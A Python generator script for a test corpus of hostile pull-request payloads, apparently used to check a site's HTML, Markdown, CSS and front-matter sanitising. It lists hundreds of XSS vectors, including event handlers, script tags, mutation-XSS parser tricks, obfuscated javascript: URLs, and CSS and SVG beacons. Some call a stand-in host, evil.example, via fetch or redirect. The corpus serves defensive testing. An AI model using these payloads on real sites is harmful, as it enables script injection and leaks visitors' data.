"""Writes payloads.jsonl: the hostile-pull-request corpus (see README.md beside this file).

Run it again after changing the lists below: python tests/xss-corpus/make_corpus.py
Each payload is one JSON object per line: id, class (the issue 14 class or the
public collection's family), context (where the browser test puts it) and payload.
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path

EVIL = "https://evil.example"
ACTIONS = ["alert(1)", f"fetch('{EVIL}/x')", f"location='{EVIL}/'", "confirm`1`", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))"]

# Event-handler vectors in the style of html5sec.org and PayloadsAllTheThings' XSS Injection lists.
TAG_HANDLERS = [
    ("<img src=x {h}={a}>", "onerror"), ("<svg {h}={a}>", "onload"), ("<body {h}={a}>", "onload"),
    ("<details open {h}={a}>", "ontoggle"), ("<input autofocus {h}={a}>", "onfocus"), ("<select autofocus {h}={a}>", "onfocus"),
    ("<textarea autofocus {h}={a}></textarea>", "onfocus"), ("<video src=x {h}={a}></video>", "onerror"), ("<audio src=x {h}={a}>", "onerror"),
    ("<iframe {h}={a}></iframe>", "onload"), ("<marquee {h}={a}>x</marquee>", "onstart"), ("<a href=# autofocus {h}={a}>x</a>", "onfocus"),
    ("<div tabindex=1 autofocus {h}={a}>x</div>", "onfocusin"), ("<span style=animation-name:x {h}={a}>x</span>", "onanimationstart"),
    ("<svg><animate {h}={a} attributeName=x dur=1s>", "onbegin"), ("<object data=x {h}={a}>", "onerror"), ("<p {h}={a}>hover</p>", "onmouseover"),
    ("<form><button formaction=javascript:{a}>x</button></form>", "formaction"), ("<math><mi xlink:href=javascript:{a}>x</mi></math>", "xlink"),
]
SCRIPTS = [
    "<script>{a}</script>", "<SCRIPT>{a}</SCRIPT>", "<script src=data:,{a}></script>", f"<script src={EVIL}/x.js></script>",
    "<script type=module>{a}</script>", "<scr<script>ipt>{a}</script>", "<svg><script>{a}</script></svg>", "<svg><script href=data:,{a} />",
    "<!--><script>{a}</script>-->", "<![CDATA[<script>{a}</script>]]>", "<?xml ?><script>{a}</script>", "<iframe srcdoc='<script>{a}</script>'></iframe>",
    "<object data='data:text/html,<script>{a}</script>'></object>", "<embed src='data:text/html,<script>{a}</script>'>",
    "<template><script>{a}</script></template>", "<noscript><script>{a}</script></noscript>",
]
DIFFERENTIALS = [
    "<style>p{{}}</style x><img src=x onerror={a}>", "<style>p{{}}</style/><img src=x onerror={a}>", "<svg><style><img src=x onerror={a}></style></svg>",
    "<math><style><img src=x onerror={a}></style></math>", "<svg><style>&lt;img src=x onerror={a}&gt;</style></svg>",
    *(f'<{tag}><p title="</{tag}><img src=x onerror={{a}}>"></{tag}>' for tag in ("noscript", "textarea", "title", "xmp", "noembed", "noframes", "iframe", "style", "plaintext")),
    "<math><mtext><table><mglyph><style><img src=x onerror={a}>", "<svg></p><style><a id=\"</style><img src=x onerror={a}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={a}>", "<a title=\"a\" <img src=x onerror={a}>>x</a>",
    "<img src=x onerror\n={a}>", "<img/src=x/onerror={a}>", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "<img src=`x`onerror={a}>",
]
URLS = [
    "javascript:{a}", "JaVaScRiPt:{a}", "jav&#x09;ascript:{a}", "&#106;avascript:{a}", " javascript:{a}", "java\tscript:{a}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>{a}</script>", "vbscript:msgbox(1)",
    "javascript&colon;{a}", "&#x6A;avascript:{a}", "\\x6Aavascript:{a}",
]
REDIRECTS = [
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">', f"<base href={EVIL}/>", '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    f"<form action={EVIL}/ method=post><input name=q autofocus></form>", f"<a href=/ ping={EVIL}/p>x</a>", f"<iframe src={EVIL}/></iframe>",
    f"<link rel=prefetch href={EVIL}/x>", "<link rel=dns-prefetch href=//evil.example>", f"<link rel=preconnect href={EVIL}>",
    f"<link rel=stylesheet href={EVIL}/x.css>", f"<img src={EVIL}/pixel.gif alt=x>", f"<img srcset='/a.png 1x, {EVIL}/b.png 2x' alt=x>",
    f"<video poster={EVIL}/p.png></video>", f"<picture><source srcset={EVIL}/x.webp><img src=/x.png alt=x></picture>", f"<svg><image href={EVIL}/x.png /></svg>",
    f"<svg><use href={EVIL}/s.svg#a /></svg>", f"<input type=image src={EVIL}/i.png>", f"<body background={EVIL}/b.png>", f"<table background={EVIL}/t.png>",
    f"<audio><source src={EVIL}/a.mp3></audio>", f"<track src={EVIL}/t.vtt>", f"<object data={EVIL}/o.swf></object>", f"<embed src={EVIL}/e.swf>",
    f"<meta name=referrer content=unsafe-url><img src={EVIL}/r.png alt=x>", f"<a href={EVIL}/ target=_blank autofocus>x</a><script>document.links[0].click()</script>",
]
CSS = [
    f"@import '{EVIL}/a.css';", f"@import url({EVIL}/a.css);", f"@import url('{EVIL}/a.css') screen;", f"@\\69mport '{EVIL}/a.css';",
    f"p{{background:url({EVIL}/b.png)}}", f"p{{background:\\75 rl({EVIL}/c.png)}}", f"p{{background:u\\72l({EVIL}/d.png)}}", f"p{{background:URL( '{EVIL}/e.png' )}}",
    f"p{{background:image-set('a.png' 1x,'{EVIL}/f.png' 2x)}}", f"p{{background:-webkit-image-set(url(a.png) 1x,url({EVIL}/g.png) 2x)}}",
    f"@font-face{{font-family:x;src:url({EVIL}/h.woff2)}}p{{font-family:x}}", f"p{{cursor:url({EVIL}/i.cur),auto}}", f"p{{list-style:url({EVIL}/j.png)}}",
    f"p{{border-image:url({EVIL}/k.png) 30}}", f"p{{mask:url({EVIL}/l.svg#m)}}", f"p{{content:url({EVIL}/m.png)}}", f"p{{background:url(\"{EVIL}/n\\\".png\")}}",
    f"p{{background:url({EVIL}/o.png)/**/}}", "p{background-image:url(//evil.example/p.png)}", "p{width:expression(alert(1))}", "p{-moz-binding:url(x.xml#x)}",
]
SVG = [
    f'<svg><rect width=9 height=9 fill="url({EVIL}/a#x)"/></svg>', f'<svg><rect width=9 height=9 mask="url({EVIL}/b#m)"/></svg>',
    f'<svg><rect width=9 height=9 clip-path="url({EVIL}/c#c)"/></svg>', f'<svg><rect width=9 height=9 cursor="url({EVIL}/d), auto"/></svg>',
    f'<svg><rect width=9 height=9 filter="url({EVIL}/e#f)"/></svg>', f'<svg><rect width=9 height=9 style="fill:url({EVIL}/f#x)"/></svg>',
    f'<svg><path d="M0 0" marker-end="url({EVIL}/g#m)"/></svg>', '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>', f'<svg><feImage href="{EVIL}/h.png"/></svg>',
]
TITLES = ["<img src=x onerror={a}>", "\"><img src=x onerror={a}>", "<svg onload={a}>", "&lt;img src=x onerror={a}&gt;", "<a href=javascript:{a}>x</a>"]
INVITES = [
    "https://chat.whatsapp.com/AbC123", "https://chat%2Ewhatsapp%2Ecom/AbC123", "https://chat\u3002whatsapp\u3002com/AbC123",
    "https://\uff43\uff48\uff41\uff54.whatsapp.com/AbC123", "https://wa.me/447700900123", "https://wa.link/ab12", "https://whatsapp.com/channel/0029",
    "https://t.me/+AbCd", "https://discord.gg/abc", "https://ig.me/m/someone", "https://www.facebook.com/groups/1234", "https://bit.ly/3xyz",
    "https://tinyurl.com/abc1", "https://us02web.zoom.us/j/8123?pwd=x", "whatsapp://send?phone=447700900123", "https://m.me/sam",
]
FRONT = [
    'title: {{a: "<img src=x onerror={a}>"}}', 'title: "<img src=x onerror={a}>"', 'description: "\\"><img src=x onerror={a}>"',
    'status: "x\\" onmouseover=\\"{a}"', "template: redirect.html\nlocation: javascript:{a}", f"template: redirect.html\nlocation: {EVIL}/",
    "icon: ../../x", 'subtitle: "<img src=x onerror={a}>"', 'title: "</title><script>{a}</script>"', "hide: [\"<script>\"]",
    'search: {{boost: "<img src=x onerror={a}>"}}', "summary: <script>{a}</script>", "owner: <img src=x onerror={a}>",
]
MARKDOWN = [
    "[x](javascript:{a})", "[x](<javascript:{a}>)", "[x](JAVASCRIPT:{a})", "[x][r]\n\n[r]: javascript:{a}", "![x](x\" onerror=\"{a})",
    "<javascript:{a}>", "[x](https://example.org){{ onclick=\"{a}\" }}", "Text{{: onmouseover=\"{a}\" }}", "<div markdown onmouseover=\"{a}\">\nhi\n</div>",
    "[x](https://example.org \"x\" onmouseover=\"{a}\")", "*[abbr]: <img src=x onerror={a}>\n\nabbr", "[x](data:text/html,<script>{a}</script>)",
    "<a href=\"java\nscript:{a}\">x</a>", "[x](&#106;avascript:{a})", "![x](javascript:{a})", "<details open ontoggle={a}>\n\n**x**\n\n</details>",
]


def rows() -> list[dict[str, str]]:
    out: list[dict[str, str]] = []

    def add(kind: str, context: str, payload: str) -> None:
        out.append({"id": f"{len(out):03d}", "class": kind, "context": context, "payload": payload})

    for (template, handler), action in itertools.product(TAG_HANDLERS, ACTIONS[:4]):
        add("html-event-handler", "body", template.format(h=handler, a=action))
    for template, action in itertools.product(SCRIPTS, ACTIONS[:3]):
        add("html-script", "body", template.format(a=action))
    for template, action in itertools.product(DIFFERENTIALS, ACTIONS[:2]):
        add("parser-differential", "body", template.format(a=action))
    for template in URLS:
        for context in ("href", "link", "image", "src"):
            add("unsafe-url", context, template.format(a="alert(1)"))
    for payload in REDIRECTS:
        add("fetch-or-redirect", "body", payload)
    for payload in CSS:
        add("css", "style-element", payload)
        add("css", "css-file", payload)
    for payload in SVG:
        add("svg", "body", payload)
    for template, context in itertools.product(TITLES, ("link-title", "image-title", "attr-list-title", "raw-title", "abbr")):
        add("title-attribute", context, template.format(a="alert(1)"))
    for url in INVITES:
        add("private-invite", "link", url)
    for template in FRONT:
        add("front-matter", "front-matter", template.format(a="alert(1)"))
    for template in MARKDOWN:
        add("markdown", "body", template.format(a="alert(1)"))
    return out


if __name__ == "__main__":
    target = Path(__file__).with_name("payloads.jsonl")
    lines = [json.dumps(row, ensure_ascii=False) for row in rows()]
    target.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"{len(lines)} payloads written to {target}")
